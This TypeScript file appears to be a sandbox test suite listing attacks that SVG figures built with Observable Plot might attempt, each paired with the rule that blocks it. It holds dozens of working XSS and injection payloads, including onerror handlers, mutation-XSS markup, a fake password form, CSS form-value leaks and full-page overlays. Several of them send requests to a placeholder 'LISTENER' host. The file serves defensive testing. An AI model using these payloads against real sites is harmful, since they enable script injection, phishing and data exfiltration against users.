/** Figures as a way out of the sandbox: what a picture could load, run, cover or lead to. */
import type { Attack, AttackClass } from '../attack.ts';

const ELEMENTS = 'A figure may hold the SVG elements of a fixed list, and this is none of them.';
const ATTRIBUTES =
  'The elements of a figure keep the attributes of a fixed list, and this is none of them.';
const LOCAL =
  'An attribute of a figure may refer to a part of the same figure, and to nothing else.';
const BOX = 'A figure is cut off at the edge of its box.';

/**
 * Lets the figure `picture` say that it has this markup, too. (The document that a snippet draws on reads no
 * markup, and an attacker need not keep to what it can draw.)
 */
export const ADD = `const add = (markup: string) =>
  Object.defineProperty(picture, 'outerHTML', { value: picture.outerHTML.replace(/<\\/svg>$/, () => markup + '</svg>') });
`;

/** A figure of Plot's with something added to its SVG. */
const added = (name: string, stoppedBy: string, svg: string): Attack => ({
  name,
  stoppedBy,
  code: `import * as Plot from '@observablehq/plot';
const picture = Plot.plot({ ariaLabel: 'A picture.', marks: [Plot.dot([[1, 1]])] }) as any;
${ADD}add(${JSON.stringify(svg)});
export const figure = picture;`,
});

/** A figure of Plot's that was changed by statements on \`picture\`. */
const changed = (name: string, stoppedBy: string, statements: string): Attack => ({
  name,
  stoppedBy,
  code: `import * as Plot from '@observablehq/plot';
const picture = Plot.plot({ ariaLabel: 'A picture.', marks: [Plot.dot([[1, 1]])] }) as any;
${statements}
export const figure = picture;`,
});

export const figures: AttackClass = {
  name: 'figures',
  about: 'A picture tries to load, to run, to cover or to lead away.',
  attacks: [
    added(
      'an image from an address',
      LOCAL,
      '<image href="http://LISTENER/x.png" width="9" height="9"/>',
    ),
    added(
      'an image by its old attribute',
      LOCAL,
      '<image xlink:href="http://LISTENER/x.png" width="9" height="9"/>',
    ),
    added(
      'an image of SVG that loads more',
      ELEMENTS,
      '<image href="data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;image href=&quot;http://LISTENER/&quot;/&gt;&lt;/svg&gt;"/>',
    ),
    added(
      'an image of HTML',
      ELEMENTS,
      '<img src="http://LISTENER/x.png" srcset="http://LISTENER/y.png 2x">',
    ),
    added(
      'an image that fails on purpose',
      ELEMENTS,
      '<image href="x" onerror="fetch(\'http://LISTENER/\')"/>',
    ),
    added('a use of another file', LOCAL, '<use href="http://LISTENER/x.svg#y"/>'),
    added('a use of a file of the book', LOCAL, '<use href="/favicon.svg?leak#y"/>'),
    added(
      'a filter with an image',
      ELEMENTS,
      '<filter id="f"><feImage href="http://LISTENER/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    ),
    added(
      'a filter from an address',
      LOCAL,
      '<rect width="9" height="9" filter="url(http://LISTENER/x.svg#f)"/>',
    ),
    added(
      'a mask from an address',
      LOCAL,
      '<rect width="9" height="9" mask="url(http://LISTENER/x.svg#m)"/>',
    ),
    added(
      'a fill from an address',
      LOCAL,
      '<rect width="9" height="9" fill="url(http://LISTENER/x.svg#p)"/>',
    ),
    added(
      'a clip path from an address',
      LOCAL,
      '<rect width="9" height="9" clip-path="url(\'http://LISTENER/x.svg#c\')"/>',
    ),
    added(
      'a marker from an address',
      LOCAL,
      '<path d="M0 0L9 9" marker-end="url(http://LISTENER/x.svg#m)"/>',
    ),
    added(
      'a cursor from an address',
      LOCAL,
      '<rect width="440" height="290" cursor="url(http://LISTENER/x.cur), auto"/>',
    ),
    added(
      'a style that loads',
      LOCAL,
      '<rect width="9" height="9" style="background:url(http://LISTENER/x.png);mask-image:url(http://LISTENER/y.png)"/>',
    ),
    added(
      'a style with escapes that loads',
      LOCAL,
      '<rect width="9" height="9" style="fill:u\\72l(http://LISTENER/x.svg#p)"/>',
    ),
    added(
      'a style with image-set',
      LOCAL,
      '<rect width="9" height="9" style="background-image:image-set(\'http://LISTENER/x.png\' 1x)"/>',
    ),
    added('a sheet that imports', ELEMENTS, '<style>@import "http://LISTENER/x.css";</style>'),
    added(
      'a sheet with a font',
      ELEMENTS,
      '<style>@font-face{font-family:x;src:url(http://LISTENER/x.woff2)}text{font-family:x}</style><text>x</text>',
    ),
    added(
      'a sheet that hides the page',
      ELEMENTS,
      '<style>body{visibility:hidden!important}</style>',
    ),
    added(
      'a sheet that reads a form',
      ELEMENTS,
      '<style>input[value^="1"]{background:url(http://LISTENER/1)}</style>',
    ),
    added(
      'a sheet from an address',
      ELEMENTS,
      '<link rel="stylesheet" href="http://LISTENER/x.css"/>',
    ),
    added(
      'a link to prefetch',
      ELEMENTS,
      '<link rel="prefetch" href="http://LISTENER/x"/><link rel="preconnect" href="http://LISTENER/"/>',
    ),
    added(
      'a script',
      ELEMENTS,
      '<script>document.title = "taken"; document.body.remove()</script>',
    ),
    added(
      'a script from an address',
      ELEMENTS,
      '<script href="http://LISTENER/x.js"></script><script src="http://LISTENER/y.js"></script>',
    ),
    added(
      'a handler of loading',
      ATTRIBUTES,
      '<g onload="document.title = \'taken\'"><rect width="9" height="9" onclick="document.title = \'taken\'"/></g>',
    ),
    added(
      'a handler of an animation',
      ELEMENTS,
      '<animate attributeName="x" dur="1s" onbegin="document.title = \'taken\'"/>',
    ),
    added(
      'an animation of an address',
      ELEMENTS,
      '<a><set attributeName="href" to="http://LISTENER/"/><text y="20">x</text></a>',
    ),
    added(
      'a link to a script',
      ELEMENTS,
      '<a href="javascript:document.title=\'taken\'"><rect width="440" height="290"/></a>',
    ),
    added(
      'a link over the whole picture',
      ELEMENTS,
      '<a href="http://LISTENER/" target="_top" ping="http://LISTENER/ping"><rect width="440" height="290" fill-opacity="0"/></a>',
    ),
    added(
      'HTML in SVG',
      ELEMENTS,
      '<foreignObject width="440" height="290"><iframe src="http://LISTENER/"></iframe></foreignObject>',
    ),
    added(
      'a form in SVG',
      ELEMENTS,
      '<foreignObject width="440" height="290"><form action="http://LISTENER/"><input type="password" name="p"><button>Sign in</button></form></foreignObject>',
    ),
    added(
      'a frame with its own document',
      ELEMENTS,
      '<iframe srcdoc="<script>parent.document.title=\'taken\'</script>"></iframe>',
    ),
    added(
      'an object and an embed',
      ELEMENTS,
      '<object data="http://LISTENER/x"></object><embed src="http://LISTENER/y">',
    ),
    added(
      'a refresh',
      ELEMENTS,
      '<meta http-equiv="refresh" content="0;url=http://LISTENER/"><base href="http://LISTENER/">',
    ),
    added(
      'a video with a poster',
      ELEMENTS,
      '<video poster="http://LISTENER/x.png" src="http://LISTENER/x.mp4" autoplay></video>',
    ),
    added(
      'markup that a second parser reads otherwise',
      ELEMENTS,
      '<desc><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title=\'taken\'&gt;">',
    ),
    added(
      'markup that breaks out of a title',
      ELEMENTS,
      '<title><![CDATA[</title><img src=x onerror="document.title=\'taken\'">]]></title>',
    ),
    added(
      'a button of the page',
      ATTRIBUTES,
      '<rect width="440" height="290" data-page-action="reset-all" data-action="reset"/>',
    ),
    added(
      'a cell within the cell',
      ATTRIBUTES,
      '<g data-cell="quadratic/product" data-state="error"><rect width="440" height="290" data-action="reset"/></g>',
    ),
    added(
      'a value of the book',
      ATTRIBUTES,
      '<text y="20" data-value="quadratic/product#product" data-digits="3">x</text>',
    ),
    added(
      'ids of the page',
      'Ids of a figure begin with the cell’s own name.',
      '<g id="search"><g id="theme"/><g id="main"/><g id="cell-quadratic-product"/><g id="_top"/></g>',
    ),
    added(
      'names that the page might read',
      'Ids of a figure begin with the cell’s own name.',
      '<g id="document"/><g id="localStorage"/><g id="thePage"/>',
    ),
    added(
      'classes of the page',
      ATTRIBUTES,
      '<text y="20" class="cell-error">x</text><text class="cell-status page-status cell-outputs">y</text>',
    ),
    added(
      'a popover',
      ATTRIBUTES,
      '<g popover="manual" tabindex="0" autofocus="" accesskey="s" contenteditable="true"><rect width="9" height="9"/></g>',
    ),
    added(
      'a shape over the whole page',
      BOX,
      '<rect x="-9999" y="-9999" width="99999" height="99999" fill="white" style="overflow:visible"/>',
    ),
    added(
      'a shape moved over the page',
      BOX,
      '<g style="transform:scale(100)"><rect width="440" height="290"/></g><g transform="translate(0 -400)"><rect width="440" height="290"/></g>',
    ),
    added(
      'a shape fixed to the window',
      ATTRIBUTES,
      '<svg style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99999;overflow:visible"><rect width="9999" height="9999"/></svg>',
    ),
    changed(
      'a picture fixed over the window',
      'The SVG element of a figure keeps no style of its own but its width.',
      `picture.setAttribute('style', 'position:fixed;inset:0;width:100vw;height:100vh;max-width:none;z-index:99999;overflow:visible');`,
    ),
    changed(
      'a picture of a billion pixels',
      BOX,
      `picture.setAttribute('width', '1e9'); picture.setAttribute('height', '1e9'); picture.setAttribute('viewBox', '0 0 1 1');`,
    ),
    changed(
      'a picture that is wider than its box',
      BOX,
      `picture.setAttribute('style', '--figure-width: 99999; min-width: 9999px; margin: -999px; --color-text: red; color: red'); picture.setAttribute('overflow', 'visible');`,
    ),
    changed(
      'a name that closes its attribute',
      'A figure’s words are set as an attribute’s value, not written into markup.',
      `picture.setAttribute('aria-label', '"><img src=x onerror="document.title=1"><i a="');`,
    ),
    changed(
      'a tag that is not a tag',
      ELEMENTS,
      `picture.append(picture.ownerDocument.createElement('x onload=alert(1) y'));`,
    ),
    changed(
      'a text node that is markup',
      'A figure’s texts are set as texts.',
      `picture.append(picture.ownerDocument.createTextNode('<style>body{display:none}</style>'));`,
    ),
    changed(
      'a legend of markup',
      'A legend is made of checked elements, like the picture.',
      `const legend = picture.ownerDocument.createElement('div');
const markup = '<style>body{display:none}</style><form><input type="password"></form><a href="http://LISTENER/">x</a><div popover data-page-action="reset-all" style="position:fixed;inset:0">x</div>';
for (const name of ['outerHTML', 'innerHTML']) Object.defineProperty(legend, name, { value: markup });
legend.append(markup);
const figureElement = picture.ownerDocument.createElement('figure');
figureElement.append(legend, picture.cloneNode(true));
picture.replaceWith?.(figureElement);
export const other = figureElement;`,
    ),
    {
      name: 'labels of a legend',
      stoppedBy: 'The labels of a legend are set as texts.',
      code: `import * as Plot from '@observablehq/plot';
export const figure = Plot.plot({
  ariaLabel: '<script>x</script>',
  color: { legend: true, domain: ['<img src=x onerror=alert(1)>', '"><style>body{display:none}</style>'] },
  marks: [Plot.dot([[1, 1]], { fill: ['"><style>body{display:none}</style>'], title: ['<img src=x>'], tip: true })],
});`,
    },
  ],
};
